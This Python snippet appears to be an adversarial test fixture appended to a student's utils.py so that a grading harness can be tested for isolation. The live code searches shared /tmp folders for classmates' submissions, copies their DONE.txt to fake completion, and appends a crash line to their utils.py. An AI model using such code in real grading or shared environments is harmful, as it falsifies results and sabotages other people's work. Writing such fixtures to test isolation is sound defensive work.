# ruff: noqa  (adversarial submission: deliberately malicious code)
# Appended to the stub's assignments/utils.py by fakekit.make_submission.

# ADVERSARIAL: look for classmates' work in the shared temporary folder, copy
# their DONE.txt into this submission and break their utils.py
import glob
import os
import shutil

_mine = Path(__file__).resolve().parent
_patterns = ["/tmp/grader-*/harness/assignments",
             "/tmp/pytest-of-*/pytest-*/*/submissions/*/assignments",
             "/tmp/pytest-of-*/pytest-*/*/*/submissions/*/assignments"]
for _pattern in _patterns:
    for _other in glob.glob(_pattern):
        _other = Path(_other)
        if _other.resolve() == _mine or not (_other / "DONE.txt").exists():
            continue
        try:
            shutil.copy(_other / "DONE.txt", _mine / "DONE.txt")
            with open(_other / "utils.py", "a") as _victim:
                _victim.write("\nraise SystemExit('sabotaged by a classmate')\n")
        except OSError:
            pass
